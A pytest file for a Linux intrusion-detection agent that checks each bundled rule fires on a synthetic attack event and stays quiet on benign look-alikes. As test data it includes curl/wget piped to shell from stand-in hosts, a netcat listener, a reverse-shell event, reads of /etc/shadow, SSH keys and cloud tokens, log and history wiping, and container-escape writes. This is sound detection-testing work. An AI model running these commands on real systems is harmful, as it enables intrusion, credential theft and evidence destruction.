"""Every bundled rule (agent/detect/rules/nodewarden.yaml), through the real Detector: an event of the
attack raises exactly that rule, and a benign look-alike raises nothing. The events are decoded from
packed kernel records by the sensors' own decoders (tests/unit/detect_events.py)."""

from __future__ import annotations

import dataclasses
import os
import re
import socket
from collections.abc import Callable

import pytest

from agent.detect.engine import build
from agent.events import Enriched, Op, ProcInfo
from agent.policy.rules import Selection, default_section
from agent.vocab import Severity
from tests.unit.detect_events import (
    CONTAINER,
    MEMFD_FLAGS,
    UPPER_FLAGS,
    connect_en,
    enriched,
    exec_ident_rec,
    file_rec,
    net_rec,
    open_en,
    sys_en,
)
from tests.unit.replay_records import PID, exec_rec

W, TRUNC = os.O_WRONLY | os.O_CREAT, os.O_WRONLY | os.O_CREAT | os.O_TRUNC
TACTICS = {"initial_access", "execution", "persistence", "privilege_escalation", "defense_evasion",
           "credential_access", "discovery", "lateral_movement", "collection", "command_and_control",
           "exfiltration", "impact"}


def proc(comm: str, exe: str = "", argv: tuple[str, ...] = (), pid: int = PID - 1) -> ProcInfo:
    return ProcInfo(pid=pid, ppid=pid - 1, exe=exe or f"/usr/bin/{comm}", argv=argv or (comm,), uid=0, start_ns=0,
                    comm=comm)


BASH, SSHD, SHIM, NGINX = proc("bash"), proc("sshd"), proc("containerd-shim"), proc("nginx")


def ex(path: str, *args: str, container=None, parent: ProcInfo | None = BASH, uid: int = 1000,
       ancestors: tuple[ProcInfo, ...] = ()) -> Enriched:
    """An exec of `path` with argv (path's base name, *args); comm is the base name, as the kernel sets it."""
    name = os.path.basename(path)
    argv = [name, *args]
    en = enriched(exec_rec(path, argv, comm=name[:15].encode(), uid=uid), container=container, parent=parent,
                  exe=path, argv=tuple(argv))
    return dataclasses.replace(en, ancestors=ancestors) if ancestors else en


def ex_ident(path: str, flags: int, exe_path: str = "", container=None, parent: ProcInfo | None = BASH) -> Enriched:
    name = os.path.basename(path)
    raw = exec_ident_rec(path, [name], exe_flags=flags, exe_path=exe_path, comm=name[:15].encode())
    return enriched(raw, container=container, parent=parent, exe=path, argv=(name,))


def op(path: str, flags: int, comm: str, uid: int = 1000, container=None, parent: ProcInfo | None = BASH) -> Enriched:
    return open_en(path, flags=flags, comm=comm.encode(), uid=uid, container=container, parent=parent)


def fop(kind: Op, path: str, path2: str = "", comm: str = "sh", mode: int = 0, container=None) -> Enriched:
    return enriched(file_rec(kind, path, path2, mode=mode, comm=comm.encode()), container=container, parent=BASH)


def sysc(kind: Op, call: str, comm: str, container=None, parent: ProcInfo | None = BASH, **kw) -> Enriched:
    return sys_en(kind, call, comm=comm.encode(), container=container, parent=parent, **kw)


def net(kind: Op, addr: str, port: int, comm: str, container=None, **kw) -> Enriched:
    return enriched(net_rec(kind, addr, port, comm=comm.encode(), **kw), container=container, parent=BASH)


def raw_socket(comm: str, container=None) -> Enriched:
    return net(Op.NET_SOCKET, "", 0, comm, container=container, sock_type=3, ret=4, fd=-1, protocol=768,
               family=socket.AF_PACKET)


def hist_shell(*argv: str, name: str = ".bash_history", container=None) -> Enriched:
    """The shell of command line `argv` (comm: bash, or sh for busybox) truncating a history file."""
    comm = "sh" if name == ".ash_history" else "bash"
    raw = file_rec(Op.FILE_OPEN, f"/root/{name}", flags=TRUNC, mode=0o600, ret=3, comm=comm.encode(), uid=0)
    return enriched(raw, container=container, parent=SSHD, exe=f"/bin/{comm}", argv=argv)


C = CONTAINER
Case = tuple[Callable[[], Enriched], ...]

# rule id -> (the attack, then one or more benign look-alikes)
CASES: dict[str, Case] = {
    # -- files --
    "nw.write_below_etc": (lambda: op("/etc/hosts.allow", W, "tee"), lambda: op("/etc/hosts.allow", W, "dpkg"),
                           lambda: op("/etc/.hosts.swp", W, "vim")),
    "nw.write_below_binary_dir": (lambda: op("/usr/bin/ls", W, "cp"), lambda: op("/usr/bin/ls", W, "dpkg"),
                                  lambda: op("/usr/lib/python3/x.pyc", W, "python3")),
    "nw.write_below_root": (lambda: op("/root/notes.txt", W, "vim", uid=0),
                            lambda: op("/root/.cache/pip/x", W, "pip", uid=0)),
    "nw.clear_shell_history": (
        lambda: op("/home/u/.bash_history", TRUNC, "truncate"),
        lambda: hist_shell("bash", "-i"),  # an interactive bash rewriting its own history (`history -w`)
        lambda: hist_shell("-bash"),  # a login shell at exit
        lambda: hist_shell("sh", name=".ash_history"),  # busybox ash
        lambda: op("/home/u/.bash_history", TRUNC, "bash"),  # bash at exit, `history -w`
        lambda: fop(Op.FILE_RENAME, "/home/u/.bash_history-01234.tmp", "/home/u/.bash_history", comm="bash"),
        lambda: op("/home/u/.python_history", TRUNC, "python3"),
        lambda: op("/home/u/.bash_history", os.O_WRONLY | os.O_APPEND, "bash"),
    ),
    "nw.setuid_setgid_bit": (lambda: fop(Op.FILE_CHMOD, "/tmp/x", comm="chmod", mode=0o4755),
                             lambda: fop(Op.FILE_CHMOD, "/tmp/x", comm="chmod", mode=0o755)),
    "nw.cron_systemd_persistence": (lambda: op("/etc/cron.d/job", W, "tee"), lambda: op("/etc/cron.d/job", W, "dpkg")),
    "nw.authorized_keys_modified": (lambda: op("/home/u/.ssh/authorized_keys", W, "tee"),
                                    lambda: op("/home/u/.ssh/authorized_keys", os.O_RDONLY, "sshd")),
    "nw.shell_rc_modified": (lambda: op("/home/u/.bashrc", W, "tee"),
                             lambda: op("/home/u/.bashrc", os.O_RDONLY, "bash")),
    # -- processes --
    "nw.exec_from_writable_dir": (
        lambda: ex("/tmp/x", container=C),
        lambda: ex("/tmp/ci/.venv/bin/python3", "-m", "pytest"),  # on the host: nw.exec_from_tmp_on_host's
        lambda: ex("/usr/bin/id", container=C),
    ),
    "nw.exec_from_tmp_on_host": (
        lambda: ex("/tmp/x"),
        lambda: ex("/tmp/ci/.venv/bin/python3", "-m", "pytest"),
        lambda: ex("/tmp/build/venv/bin/pytest"),
        lambda: ex("/tmp/go-build123/b001/exe/main", parent=proc("go")),
        lambda: ex("/tmp/b/conftest", parent=proc("sh"), ancestors=(proc("sh"), proc("make"), BASH)),
        lambda: ex("/usr/bin/id"),
    ),
    "nw.network_tool_run": (lambda: ex("/usr/bin/nc", "-lvp", "4444"), lambda: ex("/usr/bin/curl", "-I", "http://x")),
    "nw.package_manager_in_container": (lambda: ex("/usr/bin/apt-get", "install", "-y", "nmap", container=C),
                                        lambda: ex("/usr/bin/apt-get", "install", "-y", "nmap")),
    "nw.miner_command_line": (lambda: ex("/usr/bin/xmrig", "-o", "pool:3333"),
                              lambda: ex("/usr/bin/htop")),
    # -- network --
    "nw.miner_stratum_port": (lambda: connect_en("10.0.0.7", 3333, container=None),
                              lambda: connect_en("10.0.0.7", 443, container=None)),
    "nw.interpreter_listening": (lambda: net(Op.NET_LISTEN, "0.0.0.0", 8080, "python3"),
                                 lambda: net(Op.NET_LISTEN, "0.0.0.0", 8080, "nginx")),
    "nw.cloud_metadata_connect": (lambda: connect_en("169.254.169.254", 80),
                                  lambda: connect_en("169.254.169.254", 80, container=None)),
    # -- credentials --
    "nw.sensitive_file_read": (
        lambda: op("/etc/shadow", os.O_RDONLY, "cat", uid=0),
        lambda: op("/etc/shadow", os.O_RDONLY, "unix_chkpwd", uid=0),
        lambda: op("/etc/pam.d/sshd", os.O_RDONLY, "sshd", uid=0),
        lambda: op("/home/u/.ssh/id_ed25519", os.O_RDONLY, "ssh"),
        lambda: op("/home/u/.ssh/id_ed25519.pub", os.O_RDONLY, "cat"),
        lambda: op("/root/.aws/credentials", os.O_RDONLY, "aws", uid=0),
        lambda: op("/etc/passwd", os.O_RDONLY, "cat"),
    ),
    "nw.sa_token_read": (
        lambda: op("/var/run/secrets/kubernetes.io/serviceaccount/token", os.O_RDONLY, "cat", container=C),
        lambda: op("/var/run/secrets/kubernetes.io/serviceaccount/token", os.O_RDONLY, "kubectl", container=C),
        lambda: op("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", os.O_RDONLY, "cat", container=C),
    ),
    "nw.search_for_secrets": (
        lambda: ex("/usr/bin/grep", "-ri", "password", "/home"),
        lambda: ex("/usr/bin/grep", "-q", "^bob:", "/etc/passwd"),
        lambda: ex("/usr/bin/find", "/", "-name", "*.log"),
    ),
    # -- fileless and drift --
    "nw.fileless_exec": (lambda: ex_ident("/proc/self/fd/3", MEMFD_FLAGS, "/memfd:x"),
                         lambda: ex_ident("/proc/self/exe", MEMFD_FLAGS, "/memfd:runc_cloned:/proc/self/exe"),
                         lambda: ex_ident("/usr/bin/true", 0)),
    "nw.exec_not_in_image": (lambda: ex_ident("/usr/local/bin/tool", UPPER_FLAGS, container=C),
                             lambda: ex_ident("/usr/local/bin/tool", 0x20, container=C)),  # overlay, lower layer
    # -- privilege --
    "nw.setuid_to_root": (
        lambda: sysc(Op.SETUID, "setresuid", "exploit", ids=(0, 0, 0)),
        lambda: sysc(Op.SETUID, "setresuid", "sudo", ids=(0, 0, 0)),
        lambda: sysc(Op.SETUID, "setuid", "exploit", ids=(0, 0, 0), ret=-1),  # EPERM: nothing changed
        lambda: sysc(Op.SETUID, "setuid", "daemon", ids=(1001, 1001, 1001)),
    ),
    "nw.capset_raise": (
        lambda: sysc(Op.CAPSET, "capset", "exploit", caps=(1 << 21, 1 << 21, 0), target_pid=0),
        lambda: sysc(Op.CAPSET, "capset", "bwrap", caps=(1 << 21, 1 << 21, 0), target_pid=0),
        lambda: sysc(Op.CAPSET, "capset", "ping", caps=(1 << 13, 1 << 13, 0), target_pid=0),
    ),
    "nw.user_management": (
        lambda: ex("/usr/sbin/useradd", "-m", "bob"),
        lambda: ex("/usr/sbin/useradd", "-m", "bob", parent=proc("adduser")),
        lambda: ex("/usr/sbin/useradd", "-r", "svc", ancestors=(proc("postinst"), proc("dpkg"))),
        lambda: ex("/usr/bin/passwd"),  # a user changing their own password
    ),
    # -- defense evasion --
    "nw.log_cleared": (
        lambda: op("/var/log/auth.log", TRUNC, "truncate", uid=0),
        lambda: op("/var/log/auth.log", TRUNC, "logrotate", uid=0),
        lambda: fop(Op.FILE_UNLINK, "/var/log/syslog.2.gz", comm="rm"),
        lambda: op("/var/log/auth.log", os.O_WRONLY | os.O_APPEND, "rsyslogd", uid=0),
    ),
    "nw.link_to_sensitive_file": (lambda: fop(Op.FILE_SYMLINK, "/tmp/s", "/etc/shadow", comm="ln"),
                                  lambda: fop(Op.FILE_SYMLINK, "/tmp/s", "/etc/hostname", comm="ln")),
    # -- execution --
    "nw.shell_from_server": (
        lambda: ex("/bin/sh", "-c", "id", container=C, parent=NGINX),
        lambda: ex("/bin/sh", "-c", "id", container=C, parent=BASH, ancestors=(BASH, SSHD)),
        lambda: ex("/bin/sh", "-c", "webpack", parent=proc("node", argv=("node", "/app/node_modules/.bin/x"))),
    ),
    "nw.interactive_shell_in_container": (
        lambda: ex("/bin/bash", container=C, parent=SHIM),
        lambda: ex("/bin/sh", "-c", "test -f /ready", container=C, parent=SHIM),  # an exec probe
        lambda: ex("/bin/bash", parent=SHIM),  # on the host
    ),
    "nw.download_piped_to_shell": (
        lambda: ex("/bin/sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh; rm -f /tmp/y", parent=proc("cron")),
        lambda: ex("/bin/sh", "-c", "curl -fsSL -o /opt/i.sh http://203.0.113.9/i.sh", parent=proc("cron")),
        lambda: ex("/bin/sh", "-c", "wget -qO- http://x/i.sh | bash", container=C, parent=proc("buildkit-runc")),
    ),
    "nw.remote_copy_tool": (lambda: ex("/usr/bin/scp", "f", "x:", container=C),
                            lambda: ex("/usr/bin/scp", "f", "x:")),
    # -- network --
    "nw.reverse_shell": (
        lambda: net(Op.NET_DUP, "203.0.113.9", 4444, "bash", fd=3, fd2=0),
        lambda: net(Op.NET_DUP, "10.0.0.9", 40000, "xinetd", fd=3, fd2=0),
        lambda: net(Op.NET_DUP, "127.0.0.1", 40000, "httpd", fd=4, fd2=0),  # busybox httpd serving a request
        lambda: net(Op.NET_DUP, "203.0.113.9", 4444, "bash", fd=3, fd2=1),  # the same shell's fd 1: one alert
    ),
    "nw.packet_socket": (
        lambda: raw_socket("sniffer"),
        lambda: raw_socket("dhclient"),
        lambda: net(Op.NET_SOCKET, "", 0, "runc:[2:INIT]", container=C, sock_type=3, ret=4, fd=-1,
                    family=socket.AF_NETLINK),  # netlink: talking to the kernel
    ),
    "nw.unexpected_udp": (
        lambda: net(Op.NET_SENDTO, "203.0.113.9", 9999, "app", container=C, sock_type=2),
        lambda: net(Op.NET_SENDTO, "10.96.0.10", 53, "app", container=C, sock_type=2),
        lambda: net(Op.NET_SENDTO, "127.0.0.1", 9999, "app", container=C, sock_type=2),
        lambda: net(Op.NET_SENDTO, "203.0.113.9", 9999, "app", sock_type=2),  # host
    ),
    # -- ptrace --
    "nw.ptrace_attach": (lambda: sysc(Op.PTRACE, "ptrace", "inject", arg=16, target_pid=1234),
                         lambda: sysc(Op.PTRACE, "ptrace", "gdb", arg=16, target_pid=1234),
                         lambda: sysc(Op.PTRACE, "ptrace", "inject", arg=0x4200, target_pid=1234)),
    "nw.ptrace_anti_debug": (lambda: sysc(Op.PTRACE, "ptrace", "malware", arg=0, target_pid=0),
                             lambda: sysc(Op.PTRACE, "ptrace", "target", arg=0, target_pid=0, parent=proc("gdb"))),
    # -- kernel and escapes --
    "nw.kernel_module_load": (
        lambda: sysc(Op.MODULE_LOAD, "finit_module", "insmod", container=C, name="/tmp/rk.ko"),
        lambda: sysc(Op.MODULE_LOAD, "finit_module", "modprobe", name="/lib/modules/x/overlay.ko"),
    ),
    "nw.kernel_module_load_host": (
        lambda: sysc(Op.MODULE_LOAD, "init_module", "rootkit"),
        lambda: sysc(Op.MODULE_LOAD, "finit_module", "systemd-udevd", name="/lib/modules/x/e1000e.ko"),
    ),
    "nw.container_escape_write": (
        lambda: op("/sys/fs/cgroup/rdma/x/release_agent", W, "sh", uid=0, container=C),
        lambda: op("/proc/sys/kernel/core_pattern", W, "systemd-sysctl", uid=0),
        lambda: op("/proc/sys/kernel/core_pattern", os.O_RDONLY, "sysctl", uid=0),
    ),
    "nw.mount_in_container": (
        lambda: sysc(Op.MOUNT, "mount", "mount", container=C, name="/mnt", source="/dev/sda1", fstype="ext4"),
        lambda: sysc(Op.MOUNT, "mount", "runc:[2:INIT]", container=C, name="/proc", source="proc", fstype="proc"),
        lambda: sysc(Op.MOUNT, "mount", "mount", name="/mnt", source="/dev/sdb1", fstype="ext4"),  # host
        # runc's bind mount of its own binary into its state dir, whatever name the process goes by
        lambda: sysc(Op.MOUNT, "mount", "exe", container=C, name="/run/containerd/runc/k8s.io/abc/runc.x1",
                     source="/proc/self/exe", fstype=""),
    ),
    "nw.namespace_change_in_container": (
        lambda: sysc(Op.SETNS, "setns", "nsenter", container=C, arg=0, ids=(3, -1, -1)),
        lambda: sysc(Op.UNSHARE, "unshare", "app", container=C, arg=0x400),  # CLONE_FILES: no namespace
        lambda: sysc(Op.UNSHARE, "unshare", "runc:[1:CHILD]", container=C, arg=0x20000),
    ),
    "nw.bpf_program_load": (lambda: sysc(Op.BPF_LOAD, "bpf", "loader", arg=2, name="hide"),
                            lambda: sysc(Op.BPF_LOAD, "bpf", "bpftool", arg=2, name="x")),
    "nw.bpf_program_load_in_container": (
        lambda: sysc(Op.BPF_LOAD, "bpf", "loader", container=C, arg=2, name="hide"),
        lambda: sysc(Op.BPF_LOAD, "bpf", "cilium-agent", container=C, arg=3, name="cil_from_container"),
    ),
}


OFF_BY_DEFAULT = {"nw.exec_from_tmp_on_host"}


def _detector(enable_all: bool = False):
    section, errors = default_section()
    assert errors == []
    # every event judged afresh (no folding, no rate limit); enable_all: the rules shipped off too
    section = dataclasses.replace(section, fold_window=0.0, rate_limit=0.0,
                                  enable=Selection(ids=tuple(OFF_BY_DEFAULT) if enable_all else ()))
    det, errors = build(section)
    assert errors == [] and det.result.skipped == []
    return det, section


@pytest.fixture(scope="module")
def bundled():
    """A detector with every bundled rule on, and the rules by id."""
    det, section = _detector(enable_all=True)
    return det, {r.id: r for r in section.ruleset.rules}


@pytest.fixture(scope="module")
def shipped():
    """The bundled rules as they ship (some off)."""
    return _detector()[0]


def _raised(det, en: Enriched) -> list[str]:
    return [a.rule_id for a in det.evaluate(en)]


def test_every_bundled_rule_has_a_case(bundled):
    _, rules = bundled
    assert set(CASES) == set(rules)
    assert {r for r, spec in rules.items() if not spec.enabled} == OFF_BY_DEFAULT


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_the_attack_raises_exactly_its_rule(bundled, rule_id):
    det, _ = bundled
    attack = CASES[rule_id][0]()
    assert _raised(det, attack) == [rule_id]


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_the_benign_look_alikes_raise_nothing(bundled, rule_id):
    det, _ = bundled
    for i, benign in enumerate(CASES[rule_id][1:]):
        assert _raised(det, benign()) == [], (rule_id, i)


def test_every_bundled_rule_is_documented_and_tagged(bundled):
    _, rules = bundled
    for rid, r in rules.items():
        assert rid.startswith("nw.") and r.name and len(r.description) > 40, rid
        assert isinstance(r.severity, Severity), rid
        techniques = [t for t in r.tags if re.fullmatch(r"T\d{4}(\.\d{3})?", t)]
        tactics = [t for t in r.tags if t in TACTICS]
        assert techniques and tactics, rid
        assert set(r.tags) == set(techniques) | set(tactics), (rid, r.tags)  # no stray tag
        assert r.output, rid
        assert r.scope in ("host", "container", "both"), rid


def test_severities_scopes_and_main_techniques_of_the_contract(bundled):
    """What /work/prompts/rules-contract.md promises (its CHANGES by h3 included): the behaviour tests assert it."""
    _, rules = bundled
    expect = {
        "nw.sensitive_file_read": ("high", "both", "T1003.008"), "nw.sa_token_read": ("medium", "both", "T1528"),
        "nw.fileless_exec": ("critical", "both", "T1620"), "nw.exec_not_in_image": ("high", "container", "T1105"),
        "nw.setuid_to_root": ("high", "both", "T1548"), "nw.capset_raise": ("medium", "both", "T1548"),
        "nw.log_cleared": ("high", "both", "T1070.002"), "nw.link_to_sensitive_file": ("high", "both", "T1222"),
        "nw.shell_from_server": ("high", "both", "T1505.003"),
        "nw.interactive_shell_in_container": ("medium", "container", "T1059.004"),
        "nw.download_piped_to_shell": ("high", "both", "T1105"),
        "nw.remote_copy_tool": ("medium", "container", "T1105"),
        "nw.search_for_secrets": ("medium", "both", "T1552.001"),
        "nw.reverse_shell": ("critical", "both", "T1059.004"), "nw.ptrace_attach": ("high", "both", "T1055.008"),
        "nw.ptrace_anti_debug": ("medium", "both", "T1622"),
        "nw.kernel_module_load": ("critical", "container", "T1547.006"),
        "nw.kernel_module_load_host": ("high", "host", "T1547.006"),
        "nw.container_escape_write": ("critical", "both", "T1611"),
        "nw.mount_in_container": ("high", "container", "T1611"),
        "nw.namespace_change_in_container": ("high", "container", "T1611"),
        "nw.packet_socket": ("medium", "both", "T1040"), "nw.bpf_program_load": ("medium", "host", "T1014"),
        "nw.bpf_program_load_in_container": ("high", "container", "T1014"),
        "nw.user_management": ("medium", "both", "T1136.001"), "nw.unexpected_udp": ("low", "container", "T1095"),
        "nw.exec_from_writable_dir": ("high", "both", "T1059"), "nw.exec_from_tmp_on_host": ("medium", "host", "T1059"),
    }
    for rid, (severity, scope, technique) in expect.items():
        r = rules[rid]
        assert (r.severity.label, r.scope, technique in r.tags) == (severity, scope, True), rid


def rel_ex(path: str, cwd: str, kernel_path: str = "", container=None) -> Enriched:
    """An exec of a relative path (`./x`) in `cwd`, with the kernel's path of what runs."""
    name = os.path.basename(path)
    raw = exec_ident_rec(path, [path], exe_path=kernel_path, cwd=cwd, comm=name.encode())
    return enriched(raw, container=container, parent=BASH, exe=path, argv=(path,))


def test_exec_from_writable_dir_by_place(shipped, bundled):
    """/dev/shm always; /tmp in a container; on a host /tmp only with nw.exec_from_tmp_on_host, which spares
    builds and venvs; a relative exec is placed by the kernel's path or the working directory."""
    det, every = shipped, bundled[0]
    make = (proc("sh"), proc("make"), BASH)
    assert _raised(det, ex("/dev/shm/x", parent=proc("sh"), ancestors=make)) == ["nw.exec_from_writable_dir"]
    assert _raised(every, ex("/dev/shm/x")) == ["nw.exec_from_writable_dir"]  # not both rules
    for quiet in (ex("/tmp/x"), ex("/var/tmp/a.out"), ex("/tmp/ws/venv/bin/pip", "install", "x"),
                  rel_ex("./hello", "/tmp/ws/src", "/tmp/ws/src/hello")):
        assert _raised(det, quiet) == [], quiet.event.filename  # a quiet host as shipped
    assert _raised(det, ex("/tmp/b/conftest", parent=proc("sh"), ancestors=make, container=C)) == [
        "nw.exec_from_writable_dir"]
    assert _raised(det, ex("/tmp/ci/.venv/bin/python3", container=C)) == ["nw.exec_from_writable_dir"]
    assert _raised(every, ex("/var/tmp/a.out")) == ["nw.exec_from_tmp_on_host"]
    assert _raised(every, ex("/tmp/b/conftest", parent=proc("sh"), ancestors=make)) == []
    # `cd /tmp && ./payload`: the kernel's path; `./x.sh` (its kernel path is the interpreter's): the cwd
    assert _raised(det, rel_ex("./payload", "/tmp", "/tmp/payload", container=C)) == ["nw.exec_from_writable_dir"]
    assert _raised(det, rel_ex("./x.sh", "/tmp", "/usr/bin/bash", container=C)) == ["nw.exec_from_writable_dir"]
    assert _raised(det, rel_ex("./x", "/dev/shm", "/dev/shm/x")) == ["nw.exec_from_writable_dir"]
    assert _raised(det, rel_ex("./tool", "/srv", "/srv/tool", container=C)) == []


def test_journal_vacuum_and_history_replacement(shipped):
    det = shipped
    assert _raised(det, ex("/usr/bin/journalctl", "--vacuum-time=1s", uid=0)) == ["nw.log_cleared"]
    assert _raised(det, ex("/usr/bin/journalctl", "-u", "ssh", uid=0)) == []
    # ln -sf /dev/null ~/.bash_history: a symlink named like the history, or one renamed onto it
    assert _raised(det, fop(Op.FILE_SYMLINK, "/home/u/.bash_history", "/dev/null", comm="ln")) == [
        "nw.clear_shell_history"]
    assert _raised(det, fop(Op.FILE_RENAME, "/home/u/CuXyz", "/home/u/.bash_history", comm="ln")) == [
        "nw.clear_shell_history"]
    assert _raised(det, fop(Op.FILE_UNLINK, "/root/.bash_history", comm="rm")) == ["nw.clear_shell_history"]
    # a shell running a command keeps no history: its truncating one is the attack (an exploit's payload)
    for argv in (("bash", "-c", ": > /root/.bash_history"), ("sh", "-c", ": > /root/.ash_history")):
        name = argv[2].split("/")[-1]
        assert _raised(det, hist_shell(*argv, name=name, container=C)) == ["nw.clear_shell_history"], argv


def test_more_attack_forms(shipped):
    det = shipped
    raw_ip = net(Op.NET_SOCKET, "", 0, "sniffer", sock_type=3, ret=4, fd=-1, protocol=1, family=socket.AF_INET)
    assert _raised(det, raw_ip) == ["nw.packet_socket"]
    for line in ("curl -s http://x/i.sh | sh", "wget -qO- http://x/i.sh|bash && echo ok",
                 "curl http://x/i | sudo -E bash -s", "(curl -s http://x/i | /bin/sh)"):
        assert _raised(det, ex("/bin/sh", "-c", line, parent=proc("cron"))) == ["nw.download_piped_to_shell"], line
    for line in ("curl -s http://x/i.sh | shasum", "curl -o f http://x; sh f"):
        assert _raised(det, ex("/bin/sh", "-c", line, parent=proc("cron"))) == [], line


def test_a_link_counts_as_a_write_of_its_new_name(shipped):
    det = shipped
    assert _raised(det, fop(Op.FILE_SYMLINK, "/etc/cron.d/job", "/tmp/job", comm="ln")) == [
        "nw.cron_systemd_persistence"]
    assert _raised(det, fop(Op.FILE_LINK, "/usr/local/bin/sudo", "/tmp/x", comm="ln")) == [
        "nw.write_below_binary_dir"]
